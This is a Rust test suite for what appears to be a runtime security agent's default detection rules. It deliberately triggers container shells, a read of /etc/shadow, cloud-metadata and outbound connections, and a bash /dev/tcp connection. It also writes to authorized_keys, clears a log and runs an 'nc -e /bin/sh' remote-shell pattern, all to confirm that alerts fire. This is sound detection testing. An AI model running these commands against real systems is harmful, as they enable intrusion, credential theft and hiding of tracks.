//! Containers that runc runs, and the default rules.

use std::fs;
use std::io::{BufRead, BufReader};
use std::os::unix::fs::PermissionsExt;
use std::process::{Command, Stdio};

use peregrine_tests::{
    Agent, AgentBuilder, Alert, Container, MARKER_RULE, NetworkNamespace, trigger,
};

/// The alerts of the default rules about one container.
fn of_container(agent: &Agent, container: &Container) -> Vec<Alert> {
    agent.alerts_where(|alert| alert.text("container.id") == container.short_id())
}

/// Waits for the rule and asserts that nothing else was said of the container.
fn only(agent: &Agent, container: &Container, rule: &str) -> Alert {
    let alert = agent.wait_for(rule, |alert| {
        alert.rule() == rule && alert.text("container.id") == container.short_id()
    });
    let all = of_container(agent, container);
    let others: Vec<&str> = all.iter().map(Alert::rule).collect();
    assert_eq!(others, [rule]);
    alert
}

#[test]
fn a_container_is_known_from_its_first_exec() {
    let rules = format!(
        "{MARKER_RULE}- rule: First\n  desc: A test.\n  condition: evt.type = execve and container.id != host\n  output: first %container.id %container.full_id %container.type %proc.vpid %proc.cmdline\n  priority: INFO\n"
    );
    let agent = AgentBuilder::rules(&rules).start();
    let container = Container::start();
    let alert = agent.wait_for("the entrypoint", |alert| {
        alert.rule() == "First" && alert.text("proc.cmdline").starts_with("sleep")
    });
    assert_eq!(alert.text("container.id"), container.short_id());
    assert_eq!(alert.text("container.full_id"), container.id);
    assert_eq!(alert.text("container.type"), "docker");
    assert_eq!(alert.field("proc.vpid").as_u64(), Some(1));
}

#[test]
fn a_shell_in_a_container_gives_one_alert() {
    let container = Container::start();
    let agent = AgentBuilder::default_rules().start();
    assert!(container.exec(&["sh", "-c", "true"]).status.success());
    let alert = only(&agent, &container, "Shell spawned in a container");
    assert!(alert.text("proc.cmdline").starts_with("sh -c"), "{alert:?}");
    assert_eq!(alert.field("user.uid").as_u64(), Some(0));
    let hits = agent.metric(
        "peregrine_rules_matches_total",
        &["rule=\"Shell spawned in a container\""],
    );
    assert!((hits - 1.0).abs() < f64::EPSILON, "{hits}");
}

#[test]
fn a_shell_with_a_terminal_is_told_apart() {
    let container = Container::start();
    let agent = AgentBuilder::default_rules().start();
    container.exec_with_terminal(&["sh", "-c", "true"]);
    let alert = only(&agent, &container, "Terminal shell in a container");
    assert_ne!(alert.field("proc.tty").as_u64(), Some(0));
}

#[test]
fn programs_in_containers() {
    let container = Container::start();
    fs::copy(container.path("/bin/busybox"), container.path("/tmp/tool")).expect("it is copied");
    let agent = AgentBuilder::default_rules().start();
    container.exec(&["/tmp/tool", "true"]);
    only(
        &agent,
        &container,
        "Program run from a temporary directory in a container",
    );
    drop(agent);
    let agent = AgentBuilder::default_rules().start();
    container.exec(&["apk", "add", "x"]);
    only(&agent, &container, "Package manager run in a container");
}

#[test]
fn the_shadow_file_of_a_container() {
    let container = Container::start();
    let agent = AgentBuilder::default_rules().start();
    assert!(container.exec(&["cat", "/etc/shadow"]).status.success());
    let alert = only(
        &agent,
        &container,
        "Sensitive file read by an untrusted program",
    );
    assert_eq!(alert.text("fd.name"), "/etc/shadow");
}

#[test]
fn connections_of_a_container() {
    let namespace =
        NetworkNamespace::with_addresses(&["203.0.113.9/32", "169.254.169.254/32", "10.1.2.3/32"]);
    let container = Container::start_in(&namespace.name);
    for (address, port, rule) in [
        (
            "203.0.113.9",
            "4444",
            "Outbound connection from a container to an unexpected destination",
        ),
        ("169.254.169.254", "80", "Cloud metadata service contacted"),
    ] {
        let mut listener = namespace
            .command(trigger("listen"))
            .arg(format!("{address}:{port}"))
            .stdout(Stdio::piped())
            .spawn()
            .expect("a listener starts");
        let mut said = String::new();
        let stdout = listener.stdout.take().expect("stdout is piped");
        BufReader::new(stdout)
            .read_line(&mut said)
            .expect("it says that it listens");
        let agent = AgentBuilder::default_rules().start();
        container.exec(&["nc", address, port]);
        let alert = agent.wait_for(rule, |alert| {
            alert.rule() == rule && alert.text("container.id") == container.short_id()
        });
        let to = format!("->{address}:{port}");
        assert!(alert.text("fd.name").ends_with(&to), "{alert:?}");
        listener.kill().expect("it is ours to end");
        listener.wait().expect("it ends");
    }
}

#[test]
fn a_shell_with_a_connection_of_its_own() {
    let namespace = NetworkNamespace::with_addresses(&["203.0.113.9/32"]);
    let mut listener = namespace
        .command(trigger("listen"))
        .arg("203.0.113.9:8181")
        .stdout(Stdio::piped())
        .spawn()
        .expect("a listener starts");
    let mut said = String::new();
    let stdout = listener.stdout.take().expect("stdout is piped");
    BufReader::new(stdout)
        .read_line(&mut said)
        .expect("it says that it listens");
    let agent = AgentBuilder::default_rules().start();
    let status = namespace
        .command("bash")
        .args(["-c", "exec 3<>/dev/tcp/203.0.113.9/8181"])
        .status()
        .expect("bash runs");
    assert!(status.success());
    let alert = agent.wait_for("the connection", |alert| {
        alert.rule() == "Shell connected to the network"
    });
    assert!(alert.text("fd.name").ends_with("->203.0.113.9:8181"));
    assert_eq!(alert.text("container.id"), "host");
    listener.kill().expect("it is ours to end");
    listener.wait().expect("it ends");
}

#[test]
fn the_rules_about_the_host() {
    let folder = tempfile::tempdir().expect("a temp dir");
    let program = |name: &str| {
        let path = folder.path().join(name);
        fs::copy("/bin/true", &path).expect("it is copied");
        fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).expect("it is executable");
        path
    };
    let ssh = folder.path().join(".ssh");
    fs::create_dir(&ssh).expect("a folder is made");
    let log = "/var/log/peregrine-test.log";
    fs::write(log, "old\n").expect("a log is written");
    let write = |path: &str| format!("echo x > {path}");
    let own = std::process::id();
    let (etc, bin) = (
        format!("/etc/peregrine-test-{own}"),
        format!("/usr/local/bin/peregrine-{own}"),
    );
    let keys = ssh.join("authorized_keys").display().to_string();

    let agent = AgentBuilder::default_rules().start();
    for (rule, command) in [
        ("Write below /etc", write(&etc)),
        ("Write below a binary directory", write(&bin)),
        ("SSH keys or shell start-up files modified", write(&keys)),
        ("Log files cleared", write(log)),
        (
            "Netcat-style remote shell",
            format!("{} -e /bin/sh 127.0.0.1 1", program("nc").display()),
        ),
        (
            "Kernel module tool run",
            format!("{} x.ko", program("insmod").display()),
        ),
    ] {
        let before = agent.lines().len();
        let status = Command::new("/bin/sh")
            .args(["-c", &command])
            .status()
            .expect("a shell runs");
        assert!(status.success(), "{command}");
        agent.wait_for(rule, |alert| alert.rule() == rule);
        let new: Vec<Alert> = agent.alerts().split_off(before);
        let about_us: Vec<&str> = new.iter().map(Alert::rule).collect();
        assert_eq!(about_us, [rule], "{command}: {new:#?}");
    }
    for path in [etc.as_str(), bin.as_str(), log] {
        fs::remove_file(path).expect("it was made");
    }
}
